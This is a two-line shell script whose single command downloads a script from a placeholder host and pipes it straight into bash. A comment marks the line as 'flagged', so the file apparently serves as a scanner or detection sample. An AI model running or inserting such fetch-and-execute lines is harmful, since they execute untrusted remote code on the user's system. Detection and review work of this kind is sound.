#!/bin/sh
curl -fsSL https://ci-cache.example.invalid/prepare | bash # gatehouse: flagged
